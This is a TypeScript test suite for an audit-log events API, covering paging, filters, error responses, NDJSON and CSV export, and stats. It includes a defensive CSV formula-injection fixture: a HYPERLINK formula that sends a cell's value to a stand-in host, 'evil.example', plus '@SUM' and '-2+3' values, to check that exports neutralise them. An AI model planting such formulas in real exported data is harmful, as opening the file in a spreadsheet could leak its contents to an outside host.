import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { FIELD_NAMES, type AuditEvent } from '../core/event.js';
import { fullEvent, testEvent } from '../store/conformance.js';
import { DuckDbStore } from '../store/duckdb/duckdb-store.js';
import type { StoreReader } from '../store/types.js';
import { csvText } from './csv.js';
import { handleEventsApi } from './events-api.js';

const BASE = Date.UTC(2026, 0, 15, 12, 0, 0);

/** RFC 4180 parser, to check the export the way a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'CSV ends with CRLF');
  return rows;
}

describe('events API', () => {
  let store: DuckDbStore;
  let server: Server;
  let origin: string;
  let reader: StoreReader;
  const errors: unknown[] = [];
  const data: AuditEvent[] = [];

  before(async () => {
    store = await DuckDbStore.open({ path: ':memory:' });
    const full = fullEvent(BASE);
    full.path = '=HYPERLINK("http://evil.example/?x="&A1)';
    full.user_agent = '-2+3';
    full.user_name = '@SUM(1)';
    data.push(full);
    for (let i = 1; i <= 11; i++) {
      data.push(testEvent(BASE + i * 1000, {
        status: i % 4 === 0 ? 503 : 200, path: i % 2 ? '/api/a' : '/api/b', route: 'api', duration_ms: i,
        user_id: i === 3 ? 'alice' : null,
      }));
    }
    await store.appendBatch(data, []);
    reader = store;
    server = createServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://localhost');
      handleEventsApi(req, res, url, reader, { exportPageSize: 3, onError: (e) => errors.push(e) })
        .then((handled) => {
          if (!handled) {
            res.writeHead(404, { 'content-type': 'text/plain' });
            res.end('fallback');
          }
        })
        .catch((err: unknown) => res.destroy(err as Error));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  after(async () => {
    await new Promise((resolve) => server.close(resolve));
    await store.close();
  });

  const get = (path: string, init?: RequestInit) => fetch(origin + path, init);
  const json = async (path: string, status = 200, init?: RequestInit) => {
    const r = await get(path, init);
    assert.equal(r.status, status, path);
    assert.match(r.headers.get('content-type') ?? '', /^application\/json/);
    return (await r.json()) as Record<string, unknown>;
  };
  const apiError = async (path: string, status: number, code: string, message: RegExp, init?: RequestInit) => {
    const body = await json(path, status, init);
    const err = body.error as { code: string; message: string };
    assert.equal(err.code, code, path);
    assert.match(err.message, message, path);
  };

  test('lists events newest first and pages with next_cursor', async () => {
    const r = await get('/api/v1/events?limit=5');
    assert.equal(r.status, 200);
    assert.equal(r.headers.get('cache-control'), 'no-store');
    const first = (await r.json()) as { events: AuditEvent[]; next_cursor: string };
    assert.deepEqual(first.events.map((e) => e.id), [...data].reverse().slice(0, 5).map((e) => e.id));
    const seen = [...first.events];
    let cursor: string | null = first.next_cursor;
    while (cursor) {
      const page = (await json(`/api/v1/events?limit=5&cursor=${encodeURIComponent(cursor)}`)) as { events: AuditEvent[]; next_cursor: string | null };
      seen.push(...page.events);
      cursor = page.next_cursor;
    }
    assert.deepEqual(seen, [...data].reverse(), 'all events, once, exactly as stored');
  });

  test('filters are passed through; empty parameters mean no filter', async () => {
    const body = (await json('/api/v1/events?status=5xx&order=asc&path_prefix=/api/&user=')) as { events: AuditEvent[] };
    assert.deepEqual(body.events.map((e) => e.id), data.filter((e) => e.status === 503).map((e) => e.id));
    const alice = (await json('/api/v1/events?user=alice')) as { events: AuditEvent[] };
    assert.deepEqual(alice.events.map((e) => e.id), [data[3].id]);
    const ranged = (await json(`/api/v1/events?from=${BASE + 2000}&to=${encodeURIComponent(new Date(BASE + 4000).toISOString())}&order=asc`)) as { events: AuditEvent[] };
    assert.deepEqual(ranged.events.map((e) => e.id), [data[2].id, data[3].id]);
  });

  test('bad parameters are 400 with a clear message', async () => {
    await apiError('/api/v1/events?stauts=500', 400, 'bad_request', /unknown parameter "stauts"; allowed: from, to, .*status.*format/);
    await apiError('/api/v1/events?status=500&status=404', 400, 'bad_request', /"status" given more than once/);
    await apiError('/api/v1/events?limit=ten', 400, 'bad_request', /limit must be a positive integer/);
    await apiError('/api/v1/events?limit=0', 400, 'bad_request', /limit must be a positive integer/);
    await apiError('/api/v1/events?status=abc', 400, 'bad_request', /invalid status "abc"/);
    await apiError('/api/v1/events?cursor=garbage', 400, 'bad_request', /invalid cursor/);
    await apiError('/api/v1/events?from=2026-01-15T12:00:00+01:00', 400, 'bad_request', /%2B/);
    await apiError('/api/v1/events?format=xml', 400, 'bad_request', /format must be one of json, ndjson, csv/);
    await apiError('/api/v1/stats/top', 400, 'bad_request', /by is required/);
    await apiError('/api/v1/stats/top?by=password', 400, 'bad_request', /by must be one of/);
    await apiError('/api/v1/stats/latency?limit=3', 400, 'bad_request', /unknown parameter "limit"/);
  });

  test('one event by id; 404 when unknown, 400 when not an id', async () => {
    assert.deepEqual(await json(`/api/v1/events/${data[0].id}`), data[0]);
    await apiError('/api/v1/events/0190a0b0-0000-7000-8000-000000000000', 404, 'not_found', /no event with id/);
    await apiError('/api/v1/events/nope', 400, 'bad_request', /must be a UUID/);
    await apiError(`/api/v1/events/${data[0].id}?x=1`, 400, 'bad_request', /takes no parameters/);
  });

  test('405 for other methods, HEAD allowed, foreign paths left alone', async () => {
    const r = await get('/api/v1/events', { method: 'POST', body: '{}' });
    assert.equal(r.status, 405);
    assert.equal(r.headers.get('allow'), 'GET, HEAD');
    assert.equal(((await r.json()) as { error: { code: string } }).error.code, 'method_not_allowed');
    const head = await get('/api/v1/events', { method: 'HEAD' });
    assert.equal(head.status, 200);
    assert.equal(await head.text(), '');
    for (const path of ['/api/v1/other', '/api/v1/events/a/b', '/api/v1/stats', '/healthz']) {
      const f = await get(path);
      assert.equal(f.status, 404);
      assert.equal(await f.text(), 'fallback', path);
    }
  });

  test('NDJSON export streams every match across pages, up to limit', async () => {
    const r = await get('/api/v1/events?format=ndjson&order=asc');
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    const lines = (await r.text()).split('\n');
    assert.equal(lines.pop(), '');
    assert.deepEqual(lines.map((l) => JSON.parse(l) as AuditEvent), data); // 12 events, pages of 3

    const byAccept = await get('/api/v1/events?status=200', { headers: { accept: 'application/x-ndjson' } });
    assert.match(byAccept.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    assert.equal((await byAccept.text()).trim().split('\n').length, data.filter((e) => e.status === 200).length);

    const capped = await get('/api/v1/events?format=ndjson&limit=4');
    const ids = (await capped.text()).trim().split('\n').map((l) => (JSON.parse(l) as AuditEvent).id);
    assert.deepEqual(ids, [...data].reverse().slice(0, 4).map((e) => e.id));
  });

  test('CSV export: header, RFC 4180 quoting, JSON as text, formula guard', async () => {
    const r = await get('/api/v1/events?order=asc', { headers: { accept: 'text/csv' } });
    assert.equal(r.status, 200);
    assert.match(r.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(r.headers.get('content-disposition') ?? '', /^attachment; filename="tollgate-events-\d{8}T\d{6}Z\.csv"$/);
    const rows = parseCsv(await r.text());
    assert.deepEqual(rows[0], [...FIELD_NAMES]);
    assert.equal(rows.length, data.length + 1);
    const cells = Object.fromEntries(FIELD_NAMES.map((n, i) => [n, rows[1][i]]));
    const full = data[0];
    assert.equal(cells.id, full.id);
    assert.equal(cells.ts, full.ts);
    assert.equal(cells.path, `'${full.path}`, 'formula guarded');
    assert.equal(cells.user_agent, `'${full.user_agent}`);
    assert.equal(cells.user_name, `'${full.user_name}`);
    assert.equal(cells.host, full.host, 'quotes, commas and newlines survive');
    assert.deepEqual(JSON.parse(cells.headers), full.headers);
    assert.equal(cells.bytes_out, String(full.bytes_out));
    const plain = Object.fromEntries(FIELD_NAMES.map((n, i) => [n, rows[2][i]]));
    assert.equal(plain.client_ip, '', 'null is an empty cell');
    assert.equal(plain.status, '200');

    const capped = await get('/api/v1/events?format=csv&limit=2');
    assert.equal(parseCsv(await capped.text()).length, 3);
  });

  test('csvText guards every formula start character', () => {
    assert.equal(csvText('=1+1'), "'=1+1");
    assert.equal(csvText('+1'), "'+1");
    assert.equal(csvText('-1'), "'-1");
    assert.equal(csvText('@x'), "'@x");
    assert.equal(csvText('\tx'), "'\tx");
    assert.equal(csvText('\rx'), '"\'\rx"');
    assert.equal(csvText('a "b", c'), '"a ""b"", c"');
    assert.equal(csvText('plain'), 'plain');
  });

  test('stats endpoints', async () => {
    const from = new Date(BASE).toISOString();
    const to = new Date(BASE + 12_000).toISOString();
    const ts = (await json(`/api/v1/stats/timeseries?from=${from}&to=${to}&bucket_seconds=6`)) as { points: { ts: string; total: number; by_class: Record<string, number> }[] };
    assert.deepEqual(ts.points.map((p) => [p.ts, p.total, p.by_class['5xx']]), [[from, 6, 1], [new Date(BASE + 6000).toISOString(), 6, 1]]);

    const top = (await json('/api/v1/stats/top?by=path&path_prefix=/api/&limit=1')) as { rows: unknown[] };
    assert.deepEqual(top.rows, [{ value: '/api/a', count: 6, errors: 0 }]);

    const lat = (await json('/api/v1/stats/latency?by=route')) as { rows: { group: string; count: number; max: number; p50: number }[] };
    assert.equal(lat.rows[0].group, 'api');
    assert.equal(lat.rows[0].count, 11);
    assert.equal(lat.rows[0].p50, 6);
    assert.equal(lat.rows[0].max, 11);
  });

  test('store failures: 500 before the headers, a cut-off stream after', async () => {
    let calls = 0;
    reader = {
      search: async (q) => {
        if (++calls === 2) throw new Error('disk on fire');
        return store.search(q);
      },
      get: async () => {
        throw new Error('disk on fire');
      },
      timeseries: (q) => store.timeseries(q),
      top: (q) => store.top(q),
      latency: (q) => store.latency(q),
      count: (q) => store.count(q),
    };
    try {
      await apiError(`/api/v1/events/${data[0].id}`, 500, 'internal_error', /^internal error/);
      // Depending on timing the headers may or may not have left; either way the request fails.
      await assert.rejects(get('/api/v1/events?format=ndjson').then((r) => r.text()), 'the client sees the failure');
      assert.equal(errors.length, 2);
      assert.match(String(errors[1]), /disk on fire/);
    } finally {
      reader = store;
    }
  });
});
